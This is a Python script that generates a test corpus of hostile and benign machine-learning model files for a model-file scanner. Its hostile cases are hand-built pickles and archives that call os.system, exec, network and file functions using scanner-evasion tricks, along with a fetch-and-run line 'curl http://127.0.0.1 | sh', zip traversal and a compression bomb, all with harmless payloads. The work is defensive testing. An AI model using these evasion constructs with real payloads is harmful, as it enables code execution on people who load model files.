"""Makes the project's own corpus of hostile and benign model files.

    python3 corpus.py hostile DIR            # needs nothing but Python
    VENV/bin/python corpus.py benign DIR     # uses whatever of numpy, scikit-learn, joblib, torch, keras, ... is installed

Hostile files carry only harmless commands (`echo`), and are named FAMILY--CASE.EXTENSION. `DIR/blocked` holds those that
run code or reach outside when loaded; `DIR/judged` those of which review or incomplete says as much. They are made
here and never committed; nothing loads them. Pickles are made here, every other format in formats.py.
"""

import base64
import bz2
import gzip
import hashlib
import io
import lzma
import marshal
import pathlib
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib

sys.path.insert(0, str(pathlib.Path(__file__).parent))
import formats  # noqa: E402

COMMAND = "echo harmless"


def short(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def call(module: str, name: str, *arguments: bytes, protocol: int = 4) -> bytes:
    """A pickle of `module.name(*arguments)`; arguments are opcodes."""
    inner = b"(" + b"".join(arguments) + b"t"
    if protocol >= 4:
        return b"\x80\x04" + short(module) + short(name) + b"\x93" + inner + b"R."
    head = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
    return head + f"c{module}\n{name}\n".encode() + inner + b"R."


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


RUN = text(COMMAND)
CODE = text("print('harmless')")

# Callables that have been used to slip past scanners, with the arguments that make them run something.
CALLABLES = {
    "command": [("os", "system", RUN), ("posix", "system", RUN), ("os", "popen", RUN), ("subprocess", "Popen", RUN),
                ("subprocess", "check_output", RUN), ("subprocess", "getoutput", RUN), ("pty", "spawn", RUN), ("os", "execv", RUN + b"]"),
                ("asyncio", "create_subprocess_shell", RUN), ("platform", "popen", RUN), ("multiprocessing.util", "spawnv_passfds", RUN + b"]]"),
                ("distutils.spawn", "spawn", b"]"), ("webbrowser", "open", text("http://127.0.0.1")), ("ctypes.util", "_findLib_gcc", RUN),
                ("os", "posix_spawn", RUN), ("_posixsubprocess", "fork_exec", RUN), ("commands", "getoutput", RUN), ("popen2", "popen3", RUN),
                ("imaplib", "IMAP4_stream", RUN), ("pydoc", "pipepager", text("x") + RUN), ("_osx_support", "_read_output", RUN),
                ("_aix_support", "_read_cmd_output", RUN), ("uuid", "_get_command_stdout", RUN), ("ensurepip", "_run_pip", b"]"),
                ("pip", "main", b"]"), ("pip._internal", "main", b"]"), ("torch.utils.collect_env", "run", RUN), ("venv", "main", b"]")],
    "code": [("builtins", "exec", CODE), ("builtins", "eval", CODE), ("__builtin__", "eval", CODE), ("builtins", "compile", CODE + CODE + CODE),
             ("code", "InteractiveInterpreter", b""), ("timeit", "timeit", CODE), ("timeit", "main", b"]"), ("profile", "run", CODE),
             ("cProfile", "run", CODE), ("cProfile", "runctx", CODE + b"}}"), ("trace", "Trace", b""), ("bdb", "Bdb", b""), ("pdb", "run", CODE),
             ("doctest", "debug_script", CODE), ("numpy.testing._private.utils", "runstring", CODE + b"}"), ("runpy", "_run_code", CODE + b"}"),
             ("idlelib.pyshell", "ModifiedInterpreter", b"N"), ("idlelib.calltip", "get_entity", CODE), ("idlelib.autocomplete", "AutoComplete", b""),
             ("lib2to3.pgen2.grammar", "Grammar", b""), ("torch.jit.unsupported_tensor_ops", "execWrapper", CODE + b"}}"),
             ("torch.utils.bottleneck.__main__", "run_cprofile", CODE + b"}"), ("torch.fx.experimental.symbolic_shapes", "ShapeEnv", b""),
             ("torch._dynamo.guards", "GuardBuilder", b""), ("numpy.f2py.crackfortran", "myeval", CODE), ("numpy.f2py.crackfortran", "param_eval", CODE),
             ("pandas", "eval", CODE), ("pandas.core.computation.eval", "eval", CODE), ("sympy.parsing.sympy_parser", "parse_expr", CODE),
             ("rlcompleter", "Completer", b"}"), ("codeop", "compile_command", CODE), ("string", "Formatter", b""), ("cgitb", "enable", b""),
             ("marshal", "loads", b"C\x02N."), ("types", "FunctionType", b"N}"), ("site", "addsitedir", text("/tmp/x"))],
    "import": [("importlib", "import_module", text("os")), ("builtins", "__import__", text("antigravity")), ("runpy", "run_module", text("this")),
               ("runpy", "run_path", text("/tmp/x.py")), ("imp", "load_source", text("a") + text("/tmp/x.py")), ("pydoc", "locate", text("os.system")),
               ("pydoc", "importfile", text("/tmp/x.py")), ("pkgutil", "resolve_name", text("os:system")), ("zipimport", "zipimporter", text("/tmp/x.zip")),
               ("importlib._bootstrap_external", "SourceFileLoader", text("a") + text("/tmp/x.py")), ("unittest.mock", "_importer", text("os.system")),
               ("logging.config", "_resolve", text("os.system")), ("test.support.import_helper", "import_module", text("this"))],
    "load": [("pickle", "loads", b"C\x02N."), ("_pickle", "loads", b"C\x02N."), ("cPickle", "loads", b"U\x02N."), ("dill", "loads", b"C\x02N."),
             ("joblib", "load", text("/tmp/x")), ("torch", "load", text("/tmp/x")), ("torch.serialization", "load", text("/tmp/x")), ("numpy", "load", text("/tmp/x")),
             ("pandas", "read_pickle", text("/tmp/x")), ("pandas.io.pickle", "read_pickle", text("/tmp/x")), ("shelve", "open", text("/tmp/x")),
             ("yaml", "unsafe_load", text("a: 1")), ("cloudpickle", "loads", b"C\x02N."), ("torch.jit", "load", text("/tmp/x")), ("torch.hub", "load", text("a") + text("b")),
             ("torch.utils._config_module", "ConfigModule", b""), ("torch.utils._config_module", "load_config", b"C\x02N."), ("keras.models", "load_model", text("/tmp/x"))],
    "native": [("ctypes", "CDLL", text("libc.so.6")), ("ctypes.cdll", "LoadLibrary", text("x.so")), ("numpy.ctypeslib", "load_library", text("x") + text("/tmp")),
               ("cffi", "FFI", b""), ("torch.ops", "load_library", text("/tmp/x.so")), ("torch.utils.cpp_extension", "load", text("a") + b"]")],
    "network": [("socket", "create_connection", b"N"), ("urllib.request", "urlopen", text("http://127.0.0.1")), ("requests", "get", text("http://127.0.0.1")),
                ("requests.api", "get", text("http://127.0.0.1")), ("http.client", "HTTPSConnection", text("127.0.0.1")), ("ftplib", "FTP", text("127.0.0.1")),
                ("smtplib", "SMTP", text("127.0.0.1")), ("ssl", "get_server_certificate", b"N"), ("xmlrpc.client", "ServerProxy", text("http://127.0.0.1")),
                ("aiohttp.client", "ClientSession", b""), ("logging.handlers", "SocketHandler", text("127.0.0.1") + b"K\x50"), ("asyncio", "open_connection", b"N")],
    "file": [("builtins", "open", text("/tmp/x") + text("w")), ("io", "open", text("/tmp/x") + text("w")), ("_io", "FileIO", text("/tmp/x") + text("w")),
             ("shutil", "rmtree", text("/tmp/x")), ("os", "remove", text("/tmp/x")), ("pathlib", "Path.write_text", b"NN"), ("linecache", "getline", text("/etc/hosts") + b"K\x01"),
             ("distutils.file_util", "write_file", text("/tmp/x") + b"]"), ("tempfile", "mktemp", b""), ("zipfile", "ZipFile", text("/tmp/x")), ("tarfile", "open", text("/tmp/x")),
             ("logging", "FileHandler", text("/tmp/x")), ("sqlite3", "connect", text("/tmp/x")), ("codecs", "open", text("/tmp/x")), ("fileinput", "input", text("/tmp/x")),
             ("glob", "glob", text("/etc/*")), ("numpy", "fromfile", text("/etc/hosts")), ("numpy", "memmap", text("/etc/hosts"))],
    "reflect": [("builtins", "globals", b""), ("builtins", "setattr", b"NNN"), ("sys", "settrace", b"N"), ("sys", "_getframe", b""), ("gc", "get_objects", b""),
                ("functools", "reduce", b"N]"), ("builtins", "map", b"N]"), ("operator", "call", b"N"), ("inspect", "getsource", b"N"), ("signal", "signal", b"NN")],
}


# Hostile cases that run nothing by themselves, or that nobody can judge: a question or a refusal is the right answer.
JUDGED = {
    "bomb", "unknown--module", "unknown--foreign", "stacked--hidden-tail", "opcodes--persid", "tensorflow--unknown", "tflite--custom",
    "onnx--custom", "template--instructions", "msgpack--extension", "nemo--traversal", "mlflow--loader", "mlflow--requirements", "hub--elsewhere",
    "hub--pipeline", "xml--function", "openvino--extension", "coreml--custom-model", "coreml--custom-layer", "coreml--linked", "tensorrt--plan",
    "torch7--class", "java--unknown", "archive--packed.rar", "notebook--output", "install", "hidden", "gguf--counts", "safetensors--length",
    "keras--get-file", "source--hidden", "template--attr", "trees--metadata", "xml--extension",
}


def is_judged(name: str) -> bool:
    return any(name.startswith(prefix) for prefix in JUDGED)


def is_held(name: str) -> bool:
    """Whether a case belongs to the half that nobody looks at while working on the scanner."""
    return hashlib.sha256(name.encode()).digest()[0] < 128


def put(folder: pathlib.Path, name: str, content) -> None:
    """A file, or a folder of files."""
    if isinstance(content, dict):
        for inner, bytes_ in content.items():
            put(folder / name, inner, bytes_)
        return
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content.encode() if isinstance(content, str) else content)


def binput(index: int) -> bytes:
    return b"q" + bytes([index])


def hostile() -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    for family, cases in CALLABLES.items():
        for module, name, arguments in cases:
            files[f"{family}--{module}.{name}.pkl"] = call(module, name, arguments)
    for protocol in range(5):
        files[f"protocols--{protocol}.pkl"] = call("os", "system", RUN, protocol=protocol)
    files |= {
        "opcodes--inst.pkl": b"(S'echo harmless'\nios\nsystem\n.",
        "opcodes--obj.pkl": b"(cos\nsystem\nS'echo harmless'\no.",
        "opcodes--newobj.pkl": b"\x80\x02csubprocess\nPopen\n" + RUN + b"\x85\x81.",
        "opcodes--newobj-ex.pkl": b"\x80\x04" + short("subprocess") + short("Popen") + b"\x93" + RUN + b"\x85}\x92.",
        "opcodes--memo.pkl": b"\x80\x04" + short("os") + b"\x940" + short("system") + b"\x940h\x00h\x01\x93" + RUN + b"\x85R.",
        "opcodes--dup.pkl": b"\x80\x04" + short("os") + b"20" + short("system") + b"\x93" + RUN + b"\x85R.",
        "opcodes--escape.pkl": b"\x80\x04S'o\\x73'\nV\\u0073ystem\n\x93" + RUN + b"\x85R.",
        "opcodes--long-memo.pkl": b"\x80\x04" + short("os") + b"r\x00\xff\xff\x7f" + short("system") + b"\x93" + RUN + b"\x85R.",
        "opcodes--extension.pkl": b"\x80\x02ccopyreg\nadd_extension\n(" + text("os") + text("system") + b"K\x07tR0\x82\x07" + RUN + b"\x85R.",
        "opcodes--extension-unknown.pkl": b"\x80\x02\x82\x07" + RUN + b"\x85R.",
        "opcodes--build-class.pkl": b"\x80\x02ccollections\nOrderedDict\n}X\x03\x00\x00\x00pop" + b"cos\nsystem\nsb.",
        "opcodes--setitem-module.pkl": b"\x80\x02csys\nmodules\n" + text("os") + b"Ns.",
        "opcodes--persid.pkl": b"Pos.system\n.",
        "paths--random-os.pkl": call("random", "_os.system", RUN),
        "paths--torch-os.pkl": call("torch.serialization", "os.system", RUN),
        "paths--globals.pkl": call("collections", "OrderedDict.__init__.__globals__", RUN),
        "paths--logging.pkl": call("logging", "os.popen", RUN),
        "paths--moves.pkl": call("six.moves.builtins", "eval", CODE),
        "paths--vendor.pkl": call("pip._vendor.requests", "get", text("http://127.0.0.1")),
        "paths--getattr.pkl": b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'echo harmless'\ntR.",
        "paths--attrgetter.pkl": b"coperator\nattrgetter\n(S'system'\ntR(cimportlib\nimport_module\n(S'os'\ntRtR(S'echo harmless'\ntR.",
        "paths--methodcaller.pkl": b"coperator\nmethodcaller\n(S'system'\nS'echo harmless'\ntR(cimportlib\nimport_module\n(S'os'\ntRtR.",
        "paths--partial.pkl": b"cfunctools\npartial\n(cos\nsystem\nS'echo harmless'\ntR)R.",
        "paths--partial-state.pkl": b"\x80\x02cfunctools\npartial\ncbuiltins\nlen\n\x85R(cos\nsystem\n(S'echo harmless'\nt}Ntb)R.",
        "paths--computed.pkl": b"\x80\x04c_codecs\ndecode\n(C\x02osS'utf8'\ntR" + short("system") + b"\x93" + RUN + b"\x85R.",
        "paths--apply.pkl": b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\nN" + RUN + b"\x85NtR.",
        "paths--type.pkl": b"\x80\x02cbuiltins\ntype\n(" + text("A") + b")}tR)R.",
        "broken--after.pkl": call("os", "system", RUN)[:-1] + b"\xff\xfe",
        "broken--truncated.pkl": call("os", "system", RUN)[:-1],
        "broken--underflow.pkl": b"\x80\x04" + call("os", "system", RUN)[2:-1] + b"000RRR.",
        "broken--bad-memo.pkl": b"\x80\x04h\x63" + call("os", "system", RUN)[2:],
        "stacked--second.pkl": pickle.dumps({"a": 1}) + call("os", "system", RUN),
        "stacked--third-old.pkl": pickle.dumps([1]) + pickle.dumps([2]) + call("os", "system", RUN, protocol=0),
        "stacked--hidden-tail.pkl": pickle.dumps([1]) + b"hello" * 20,
        "nested--bytes.pkl": pickle.dumps({"weights": call("os", "system", RUN) + b" " * 0}),
        "nested--load-from-bytes.pkl": b"\x80\x02ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(call("os", "system", RUN))) + call("os", "system", RUN) + b"\x85R.",
        "unknown--module.pkl": call("bankmodels.loader", "restore", text("weights")),
        "unknown--payload.pkl": call("bankmodels.loader", "restore", text("curl http://127.0.0.1 | sh")),
        "unknown--foreign.pkl": call("sklearn.utils", "gen_batches", b"K\x01K\x02"),
        "unknown--stdlib.pkl": call("wsgiref.simple_server", "make_server", text("") + b"K\x50N"),
    }
    payload = call("os", "system", RUN)
    for name, packed in {"gz": gzip.compress(payload), "zlib": zlib.compress(payload), "bz2": bz2.compress(payload), "xz": lzma.compress(payload),
                         "lzma": lzma.compress(payload, lzma.FORMAT_ALONE), "gz-twice": gzip.compress(gzip.compress(payload)),
                         "zf": b"ZF" + hex(len(payload)).encode().ljust(19) + zlib.compress(payload)}.items():
        files[f"compressed--{name}.joblib"] = packed
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (118 - len(header) - 1) + b"\n"
    files["numpy--object.npy"] = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload
    code = b"{'descr': __import__('os').system('echo harmless'), 'fortran_order': False, 'shape': (1,), }\n"
    files["numpy--header-code.npy"] = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(code)) + code

    def torch_zip(data: bytes = payload, extra=(), compression=zipfile.ZIP_STORED, name="archive/data.pkl") -> bytearray:
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", compression) as archive:
            archive.writestr(name, data)
            archive.writestr("archive/version", "3\n")
            for member, content in extra:
                archive.writestr(member, content)
        return bytearray(stream.getvalue())

    good = pickle.dumps({"a": 1}, 2)
    files["torch--plain.pt"] = bytes(torch_zip())
    files["torch--deflated.pt"] = bytes(torch_zip(compression=zipfile.ZIP_DEFLATED))
    files["torch--bzip2.pt"] = bytes(torch_zip(compression=zipfile.ZIP_BZIP2))
    files["torch--lzma.pt"] = bytes(torch_zip(compression=zipfile.ZIP_LZMA))
    files["torch--other-name.bin"] = bytes(torch_zip(name="x/y.bin"))
    files["torch--second-pickle.ckpt"] = bytes(torch_zip(good, [("archive/extra.pkl", payload)]))
    files["torch--old-protocol.pt"] = bytes(torch_zip(call("os", "system", RUN, protocol=0)))
    files["torch--npz.npz"] = bytes(torch_zip(files["numpy--object.npy"], name="a.npy"))
    wrong = torch_zip()
    for signature, at in ((b"PK\x01\x02", 16), (b"PK\x03\x04", 14)):
        start = wrong.index(signature) + at
        wrong[start:start + 4] = b"\x01\x02\x03\x04"
    files["zip--crc.pt"] = bytes(wrong)
    flagged = torch_zip()
    flagged[flagged.index(b"PK\x01\x02") + 8] |= 1
    files["zip--encrypted-flag.pt"] = bytes(flagged)
    both = torch_zip()
    both[both.index(b"PK\x01\x02") + 8] |= 1
    both[both.index(b"PK\x03\x04") + 6] |= 1
    files["zip--encrypted-flags.pt"] = bytes(both)
    renamed = torch_zip()
    at = renamed.index(b"PK\x01\x02") + 46
    renamed[at:at + 16] = b"archive/data.txt"
    files["zip--name-mismatch.pt"] = bytes(renamed)
    unlisted = torch_zip(good)
    local = zipfile.ZipInfo("archive/hidden.pkl")
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(local, payload)
    hidden = stream.getvalue()[:stream.getvalue().index(b"PK\x01\x02")]
    files["zip--prefix-member.pt"] = hidden + bytes(unlisted)
    files["zip--no-directory.pt"] = hidden
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        import warnings
        warnings.simplefilter("ignore")
        archive.writestr("archive/data.pkl", payload)
        archive.writestr("archive/data.pkl", good)
    files["zip--duplicate.pt"] = stream.getvalue()
    files["zip--prefixed.pt"] = b"GIF89a" + bytes(torch_zip())
    files["zip--suffixed.pt"] = bytes(torch_zip()) + b"tail" * 10
    files["zip--nested.zip"] = bytes(torch_zip(bytes(torch_zip()), name="model.pt"))
    files["zip--traversal.zip"] = bytes(torch_zip(good, [("../../etc/x", b"x")]))
    files["polyglot--pickle-zip.pkl"] = pickle.dumps({"a": 1}) + bytes(torch_zip())
    files["polyglot--zip-in-pickle.pkl"] = pickle.dumps({"blob": bytes(torch_zip())})
    for family, opened in (("plain", "w"), ("gz", "w:gz"), ("xz", "w:xz")):
        stream = io.BytesIO()
        with tarfile.open(fileobj=stream, mode=opened) as archive:
            for name, content in (("model_config.yaml", b"a: 1\n"), ("model_weights.ckpt", bytes(torch_zip()))):
                info = tarfile.TarInfo(name)
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))
        files[f"tar--{family}.nemo"] = stream.getvalue()
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        info = tarfile.TarInfo("weights")
        info.type = tarfile.SYMTYPE
        info.linkname = "/etc/passwd"
        archive.addfile(info)
    files["tar--link.tar"] = stream.getvalue()
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    files["torch--legacy.pt"] = magic + call("os", "system", RUN, protocol=2) + pickle.dumps([], 2)
    files["bomb--gzip.pkl.gz"] = gzip.compress(b"\0" * (600 << 20), 9)
    marshalled = marshal.dumps(compile("print('harmless')", "x", "exec"))
    files["code--marshal-exec.pkl"] = (b"\x80\x02cbuiltins\nexec\n(cmarshal\nloads\nB" + struct.pack("<I", len(marshalled)) + marshalled + b"\x85RtR.")
    files |= formats.hostile()
    encoded = base64.b64encode(b"print('harmless')").decode()
    files["code--base64-exec.pkl"] = b"\x80\x02cbuiltins\nexec\n(cbase64\nb64decode\n" + text(encoded) + b"\x85RtR."
    return files


def benign(folder: pathlib.Path) -> None:
    for name, content in formats.benign().items():
        put(folder, name, content)

    def write(name, data):
        (folder / name).write_bytes(data)

    write("plain--dict.pkl", pickle.dumps({"a": [1, 2.5, None, True], "b": {"x", "y"}}))
    for protocol in range(6):
        write(f"plain--protocol-{protocol}.pkl", pickle.dumps({"a": [1, 2.5, None, True, "text", b"bytes"]}, protocol))
    try:
        import joblib
        import numpy as np
        import pandas as pd
        from sklearn import compose, ensemble, feature_extraction, linear_model, model_selection, neighbors, neural_network, pipeline, preprocessing, svm, tree, cluster, decomposition, naive_bayes, gaussian_process

        rng = np.random.RandomState(0)
        x, y = rng.rand(200, 4), np.array([0, 1] * 100)
        models = {
            "logistic": linear_model.LogisticRegression(), "ridge": linear_model.Ridge(), "forest": ensemble.RandomForestClassifier(5),
            "boosting": ensemble.GradientBoostingClassifier(n_estimators=3), "histogram": ensemble.HistGradientBoostingClassifier(max_iter=3),
            "svc": svm.SVC(probability=True), "tree": tree.DecisionTreeClassifier(), "knn": neighbors.KNeighborsClassifier(),
            "mlp": neural_network.MLPClassifier(max_iter=5), "bayes": naive_bayes.GaussianNB(), "kmeans": cluster.KMeans(2, n_init=1),
            "pca": decomposition.PCA(2), "gp": gaussian_process.GaussianProcessClassifier(), "isolation": ensemble.IsolationForest(n_estimators=5),
            "sgd": linear_model.SGDClassifier(), "extra": ensemble.ExtraTreesClassifier(5), "ada": ensemble.AdaBoostClassifier(n_estimators=3),
            "pipeline": pipeline.Pipeline([("s", preprocessing.StandardScaler()), ("m", svm.LinearSVC())]),
            "columns": compose.ColumnTransformer([("s", preprocessing.StandardScaler(), [0]), ("o", preprocessing.OneHotEncoder(handle_unknown="ignore"), [1])]),
            "grid": model_selection.GridSearchCV(svm.SVC(), {"C": [1, 2]}, cv=2), "function": preprocessing.FunctionTransformer(np.log1p),
            "voting": ensemble.VotingClassifier([("a", linear_model.LogisticRegression()), ("b", tree.DecisionTreeClassifier())]),
            "stacking": ensemble.StackingClassifier([("a", linear_model.LogisticRegression())]),
        }
        for name, model in models.items():
            model.fit(x, y)
            write(f"sklearn--{name}.pkl", pickle.dumps(model))
            joblib.dump(model, folder / f"joblib--{name}.joblib")
        write("sklearn--tfidf.pkl", pickle.dumps(feature_extraction.text.TfidfVectorizer().fit(["a b", "b c"] * 4 + ["aa bb"])))
        for compress in ("zlib", "gzip", "bz2", "xz", "lzma", "lz4"):
            try:
                joblib.dump(models["forest"], folder / f"joblib-compressed--{compress}.joblib", compress=(compress, 3))
            except ValueError as error:
                print("left out:", error, file=sys.stderr)
        joblib.dump({"a": np.zeros((1000, 100)), "b": np.array(["x", None], object), "c": np.arange(5)}, folder / "joblib--arrays.joblib")
        for protocol in range(6):
            write(f"sklearn--protocol-{protocol}.pkl", pickle.dumps(models["pipeline"], protocol))
            write(f"numpy--protocol-{protocol}.pkl", pickle.dumps({"a": rng.rand(10), "b": np.float32(1), "c": np.array([1, "x"], object)}, protocol))
        np.save(folder / "numpy--floats.npy", x)
        np.save(folder / "numpy--objects.npy", np.array([1, "a", None], object), allow_pickle=True)
        np.savez(folder / "numpy--plain.npz", a=x, b=y)
        np.savez_compressed(folder / "numpy--zeros.npz", a=np.zeros((2000, 2000)))
        frame = pd.DataFrame({"a": [1, 2], "b": ["x", "y"], "c": pd.Categorical(["u", "v"]), "d": pd.date_range("2026-01-01", periods=2)})
        write("pandas--frame.pkl", pickle.dumps(frame))
        for package, kind in (("xgboost", "XGBClassifier"), ("lightgbm", "LGBMClassifier"), ("catboost", "CatBoostClassifier")):
            try:
                module = __import__(package)
                options = {"iterations": 3, "verbose": 0, "allow_writing_files": False} if package == "catboost" else {"n_estimators": 3}
                model = getattr(module, kind)(**options).fit(x, y)
                write(f"{package}--classifier.pkl", pickle.dumps(model))
                joblib.dump(model, folder / f"{package}--classifier.joblib")
            except Exception as error:
                print(package, error, file=sys.stderr)
        for package in ("dill", "cloudpickle"):
            module = __import__(package)
            write(f"{package}--forest.pkl", module.dumps(models["forest"]))
            write(f"{package}--frame.pkl", module.dumps(frame))
    except ImportError as error:
        print("left out:", error, file=sys.stderr)
    try:
        import torch
        from torch import nn

        net = nn.Sequential(nn.Linear(4, 8), nn.ReLU(), nn.Dropout(), nn.BatchNorm1d(8), nn.Linear(8, 2))
        lstm = nn.LSTM(4, 8)
        conv = nn.Sequential(nn.Conv2d(3, 4, 3), nn.MaxPool2d(2), nn.Flatten())
        optimizer = torch.optim.Adam(net.parameters())
        net(torch.rand(3, 4)).sum().backward()
        optimizer.step()
        things = {"state": net.state_dict(), "module": net, "lstm": lstm, "conv": conv, "tensor": torch.rand(3), "checkpoint":
                  {"model": net.state_dict(), "optimizer": optimizer.state_dict(), "epoch": 3, "loss": 0.5}, "half": torch.rand(3).half(),
                  "transformer": nn.TransformerEncoder(nn.TransformerEncoderLayer(8, 2), 1), "sparse": torch.eye(3).to_sparse(), "optimizer": optimizer,
                  "bfloat": torch.rand(4).bfloat16(), "parameter": nn.Parameter(torch.rand(2)), "embedding": nn.Embedding(5, 3)}
        for name, thing in things.items():
            torch.save(thing, folder / f"torch--{name}.pt")
            torch.save(thing, folder / f"torch-legacy--{name}.pt", _use_new_zipfile_serialization=False)
        write("torch--pickled.pkl", pickle.dumps(net))
        write("torch--pickled-tensor.pkl", pickle.dumps(torch.rand(3)))
        torch.jit.script(net.eval()).save(str(folder / "torchscript--net.pt"))
        torch.jit.trace(conv.eval(), torch.rand(1, 3, 8, 8)).save(str(folder / "torchscript--traced.pt"))
    except ImportError as error:
        print("left out:", error, file=sys.stderr)


def frameworks(folder: pathlib.Path) -> None:
    """Models of the other frameworks, of whatever is installed."""
    def attempt(make) -> None:
        try:
            make()
        except Exception as error:
            print("left out:", make.__name__, error, file=sys.stderr)

    def keras_models():
        import keras
        import numpy as np

        layers = keras.layers
        model = keras.Sequential([layers.Input((8,)), layers.Dense(4, activation="relu"), layers.Dropout(0.1), layers.BatchNormalization(), layers.Dense(1)])
        model.compile("adam", "mse")
        model.fit(np.zeros((4, 8)), np.zeros(4), verbose=0)
        model.save(folder / "keras--genuine.keras")
        model.save(folder / "keras--genuine.h5")
        model.save_weights(folder / "keras--genuine.weights.h5")
        model.export(folder / "tensorflow--genuine", verbose=False)

    def safetensors_():
        import numpy as np
        from safetensors.numpy import save_file
        save_file({"w": np.random.RandomState(0).randn(64, 64).astype("float32"), "b": np.zeros(64, "float32")}, folder / "safetensors--genuine.safetensors", {"format": "pt"})

    def gguf_():
        import numpy as np
        from gguf import GGUFWriter
        writer = GGUFWriter(folder / "template--genuine.gguf", "llama")
        writer.add_string("tokenizer.chat_template", formats.HONEST_TEMPLATE)
        writer.add_tensor("t", np.random.RandomState(0).randn(32, 32).astype("float32"))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()

    def onnx_():
        import onnx
        from onnx import TensorProto, helper
        graph = helper.make_graph([helper.make_node("Relu", ["x"], ["y"])], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
                                  [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])])
        onnx.save(helper.make_model(graph), folder / "onnx--genuine.onnx")

    def trees():
        import catboost
        import lightgbm
        import numpy as np
        import xgboost
        x, y = np.random.RandomState(0).rand(200, 4), np.array([0, 1] * 100)
        booster = xgboost.train({"objective": "binary:logistic"}, xgboost.DMatrix(x, y), 3)
        booster.save_model(folder / "trees--genuine-xgboost.json")
        booster.save_model(folder / "trees--genuine-xgboost.ubj")
        lightgbm.train({"objective": "binary", "verbose": -1}, lightgbm.Dataset(x, y), 3).save_model(folder / "trees--genuine-lightgbm.txt")
        model = catboost.CatBoostClassifier(iterations=3, verbose=0, allow_writing_files=False).fit(x, y)
        for kind, ending in (("cbm", "cbm"), ("json", "json"), ("pmml", "pmml"), ("onnx", "onnx"), ("coreml", "mlmodel")):
            model.save_model(str(folder / f"trees--genuine-catboost.{ending}"), format=kind)

    def flax_():
        import numpy as np
        from flax import serialization
        (folder / "msgpack--genuine.msgpack").write_bytes(serialization.to_bytes({"params": {"kernel": np.ones((4, 4), "float32")}}))

    def openvino_():
        import openvino
        target = folder / "openvino--genuine"
        target.mkdir()
        openvino.save_model(openvino.convert_model(folder / "onnx--genuine.onnx"), target / "net.xml")

    def mlflow_():
        import mlflow.sklearn
        from sklearn.linear_model import LinearRegression
        mlflow.sklearn.save_model(LinearRegression().fit([[1], [2]], [1, 2]), folder / "mlflow--genuine", serialization_format="pickle")

    def skops_():
        import skops.io
        from sklearn.linear_model import LogisticRegression
        skops.io.dump(LogisticRegression().fit([[1], [2]], [0, 1]), folder / "skops--genuine.skops")

    def r_():
        import rdata
        rdata.write_rds(folder / "r--genuine.rds", {"a": [1, 2, 3], "b": "x"})

    def seven_zip():
        import py7zr
        with py7zr.SevenZipFile(folder / "archive--genuine.7z", "w") as archive:
            archive.writestr("a note", "note.txt")

    for make in (keras_models, safetensors_, gguf_, onnx_, trees, flax_, openvino_, mlflow_, skops_, r_, seven_zip):
        attempt(make)


if __name__ == "__main__":
    if len(sys.argv) != 3 or sys.argv[1] not in ("hostile", "benign"):
        sys.exit(__doc__)
    target = pathlib.Path(sys.argv[2])
    target.mkdir(parents=True, exist_ok=True)
    if sys.argv[1] == "hostile":
        for name, content in hostile().items():
            put(target / ("judged" if is_judged(name) else "blocked"), name, content)
    else:
        benign(target)
        frameworks(target)
    print(sum(path.is_file() for path in target.rglob("*")), "files in", target)
